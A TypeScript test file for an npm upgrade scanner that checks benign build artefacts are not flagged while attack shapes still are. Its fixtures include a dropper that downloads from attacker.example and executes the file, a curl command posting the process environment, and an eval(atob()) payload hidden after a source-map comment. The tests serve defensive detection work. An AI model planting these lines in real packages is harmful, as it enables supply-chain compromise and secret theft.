/**
 * Calibration from real upgrades (tools/content-real): minimal reproductions of the code shapes that
 * raised benign findings at medium or above, each next to the attack shape that must still be reported.
 */
import { analyseContents, type ContentFinding } from '../../src/content/index.js';
import { severityRank } from '../../src/model/finding.js';
import type { ArchiveContents } from '../../src/model/contents.js';
import { archive, manifest, obfuscatedIife, readableModule } from './builders.js';

function atMedium(findings: ContentFinding[]): ContentFinding[] {
  return findings.filter((f) => severityRank(f.severity) >= severityRank('medium'));
}

function of(findings: ContentFinding[], file: string): ContentFinding[] {
  return findings.filter((f) => f.evidence.file === file);
}

/** A locale data module as a compiler emits it: one long data line and an inline source map. */
function localeModule(locale: string): string {
  const days = Array.from({ length: 400 }, (_, i) => `"${locale}-day-${i}"`).join(', ');
  const map = Buffer.from(JSON.stringify({ version: 3, file: `${locale}.js`, mappings: vlq(locale.length, 3000), names: [locale] }))
    .toString('base64')
    .replace(/=+$/, '');
  return `(function (factory) {\n  factory();\n})(function () {\n  exports.default = ["${locale}", [${days}]];\n});\n//# sourceMappingURL=data:application/json;base64,${map}\n`;
}

/** Source-map mappings: base64 VLQ letters in segments, varied as a compiler's are. */
function vlq(seed: number, n: number): string {
  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let x = seed;
  let out = '';
  for (let i = 0; i < n; i++) {
    x = (x * 48271) % 2147483647;
    out += letters[x % 64] + (i % 4 === 3 ? (i % 20 === 19 ? ';' : ',') : '');
  }
  return out;
}

/** The previous version's file as the archive reader keeps it once the archive's text budget is spent. */
function cutToNothing(contents: ArchiveContents, path: string): ArchiveContents {
  const files = contents.files.map((f) => (f.path === path ? { ...f, text: '', truncated: true } : f));
  return { ...contents, files, skipped: [{ path, reason: 'text over the kept budget: the first 0 characters were analysed' }] };
}

describe('calibration from real upgrades', () => {
  describe('a previous file the archive reader cut (@angular/common locales)', () => {
    const m = (v: string): string => manifest('locales', v, { main: 'index.js' });
    const before = cutToNothing(
      archive('locales', '12.0.3', {
        'package.json': m('12.0.3'),
        'index.js': readableModule('l', 3),
        'locales/af.js': localeModule('af'),
        'locales/ru.js': localeModule('ru'),
      }),
      'locales/ru.js',
    );

    it('is not "readable before": what the package already showed elsewhere is not new', () => {
      const after = archive('locales', '12.2.1', {
        'package.json': m('12.2.1'),
        'index.js': readableModule('l', 3),
        'locales/af.js': `${localeModule('af')}\n`,
        'locales/ru.js': `${localeModule('ru')}\n`,
      });
      const { findings } = analyseContents(before, after);
      expect(atMedium(findings)).toEqual([]);
      expect(findings.flatMap((f) => f.evidence.kinds)).not.toContain('was-readable');
    });

    it('still reports obfuscation the package never showed', () => {
      const after = archive('locales', '12.2.1', {
        'package.json': m('12.2.1'),
        'index.js': readableModule('l', 3),
        'locales/af.js': localeModule('af'),
        'locales/ru.js': `${localeModule('ru')}${obfuscatedIife(['fetch', 'open', 'send'])}\n`,
      });
      const obf = of(analyseContents(before, after).findings, 'locales/ru.js').find((f) => f.signal === 'obfuscated-code');
      expect(obf?.severity).toBe('medium');
      expect(obf?.evidence.kinds).toContain('_0x-identifiers');
    });
  });

  describe('an inline source map that grows (@angular/common locales/extra)', () => {
    const code = readableModule('ff', 4);
    const small = `${code}//# sourceMappingURL=data:application/json;base64,${Buffer.from('{"version":3,"mappings":"AAAA"}').toString('base64')}\n`;
    const m = (v: string): string => manifest('locales', v);
    const before = archive('locales', '12.0.3', { 'package.json': m('12.0.3'), 'index.js': readableModule('l', 2), 'extra/ff.js': small });
    const big = Buffer.from(JSON.stringify({ version: 3, mappings: vlq(7, 3000) })).toString('base64');

    it('is a build artefact, not an encoded payload: no finding', () => {
      const after = archive('locales', '12.2.1', {
        'package.json': m('12.2.1'),
        'index.js': readableModule('l', 2),
        'extra/ff.js': `${code}//# sourceMappingURL=data:application/json;base64,${big}\n`,
      });
      expect(analyseContents(before, after).findings.filter((f) => f.evidence.file === 'extra/ff.js')).toEqual([]);
    });

    it('source-map lines are each looked at once: 2 MB and 20 MB of them, linear time', () => {
      const line = `//# sourceMappingURL=data:application/json;base64,${big.slice(0, 1200)}\n`;
      const run = (n: number): number => {
        const text = line.repeat(Math.ceil(n / line.length)) + line.slice(0, 900);
        const t = performance.now();
        const after = archive('locales', '12.2.1', { 'package.json': m('12.2.1'), 'index.js': readableModule('l', 2), 'extra/ff.js': text });
        expect(analyseContents(before, after).findings.filter((f) => f.signal === 'obfuscated-code')).toEqual([]);
        return performance.now() - t;
      };
      run(1e5);
      expect(run(2e7)).toBeLessThan(25 * run(2e6) + 500);
    });

    it('the same data in code, or code after the comment on a JavaScript line break, is still reported', () => {
      for (const tail of [`const data = "${big}";\n`, `//# sourceMappingURL=data:application/json;base64,${big}\u2028eval(atob(data))\n`]) {
        const after = archive('locales', '12.2.1', { 'package.json': m('12.2.1'), 'index.js': readableModule('l', 2), 'extra/ff.js': `${code}${tail}` });
        const obf = analyseContents(before, after).findings.find((f) => f.signal === 'obfuscated-code');
        expect(obf?.severity).toBe('medium');
        expect(obf?.evidence.kinds).toContain('encoded-blob');
      }
    });
  });

  describe('a shell script added to a package that never shipped one (watch release.sh)', () => {
    const release = '#!/bin/sh\n\nnpm version minor && npm publish && git push --tags\n';
    const base = (v: string, extra: Record<string, unknown> = {}): Record<string, string> => ({
      'package.json': manifest('watch', v, { bin: { watch: './cli.js' }, ...extra }),
      'cli.js': readableModule('cli', 3),
      'index.js': readableModule('w', 3),
    });

    it('is low when nothing names it: no install script, no bin, no changed file runs it', () => {
      const before = archive('watch', '0.10.0', base('0.10.0'));
      const after = archive('watch', '0.18.0', { ...base('0.18.0'), 'release.sh': release });
      const exe = analyseContents(before, after).findings.filter((f) => f.signal === 'new-executable');
      expect(exe).toHaveLength(1);
      expect(exe[0]!.severity).toBe('low');
      expect(exe[0]!.evidence.kinds).toContain('not-referenced');
    });

    it('stays medium when the new version names it (a bin, a script, a changed file)', () => {
      const before = archive('watch', '0.10.0', base('0.10.0'));
      const named = [
        { ...base('0.18.0', { bin: { watch: './cli.js', setup: './release.sh' } }), 'release.sh': release },
        { ...base('0.18.0', { scripts: { test: 'sh release.sh' } }), 'release.sh': release },
        {
          ...base('0.18.0'),
          'index.js': `${readableModule('w', 3)}require('child_process').execSync('sh ' + __dirname + '/release.sh');\n`,
          'release.sh': release,
        },
      ];
      for (const members of named) {
        const exe = analyseContents(before, archive('watch', '0.18.0', members)).findings.find((f) => f.signal === 'new-executable');
        expect(exe?.severity).toBe('medium');
      }
    });

    it('a new native binary stays medium though nothing names it', () => {
      const before = archive('watch', '0.10.0', base('0.10.0'));
      const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(500, 7)]);
      const after = archive('watch', '0.18.0', { ...base('0.18.0'), 'lib/helper': { binary: elf } });
      expect(analyseContents(before, after).findings.find((f) => f.signal === 'new-executable')?.severity).toBe('medium');
    });
  });

  describe('an entry point that starts running git (conventional-changelog-core 4.2.3)', () => {
    const index = readableModule('changelog', 6);
    const m = (v: string): string => manifest('changelog', v);
    const before = archive('changelog', '4.2.2', { 'package.json': m('4.2.2'), 'index.js': index });

    it('is medium, not high: one routine capability alone in an entry point', () => {
      const git = index.replace(
        "'use strict';",
        "'use strict';\nconst execFileSync = require('child_process').execFileSync;\nconst head = () => execFileSync('git', ['rev-parse', 'HEAD']);",
      );
      const f = analyseContents(before, archive('changelog', '4.2.3', { 'package.json': m('4.2.3'), 'index.js': git })).findings;
      expect(of(f, 'index.js').map((x) => x.severity)).toEqual(['medium']);
      expect(f[0]!.evidence.kinds).toEqual(expect.arrayContaining(['process-exec', 'entry-point']));
    });

    it('is high when the entry point downloads and runs: spawn and network together', () => {
      const dropper = index.replace(
        "'use strict';",
        "'use strict';\nconst https = require('https');\nconst { execFileSync } = require('child_process');\nhttps.get('https://cdn.attacker.example/x', (r) => r.on('end', () => execFileSync('/tmp/x')));",
      );
      const f = analyseContents(before, archive('changelog', '4.2.3', { 'package.json': m('4.2.3'), 'index.js': dropper })).findings;
      expect(of(f, 'index.js').map((x) => x.severity)).toEqual(['high']);
    });

    it('is high when the entry point gains a strong kind with it (an environment dump)', () => {
      const dump = index.replace("'use strict';", "'use strict';\nrequire('child_process').execSync('curl -d ' + JSON.stringify(process.env));");
      const f = analyseContents(before, archive('changelog', '4.2.3', { 'package.json': m('4.2.3'), 'index.js': dump })).findings;
      expect(severityRank(of(f, 'index.js')[0]!.severity)).toBeGreaterThanOrEqual(severityRank('high'));
    });
  });
});
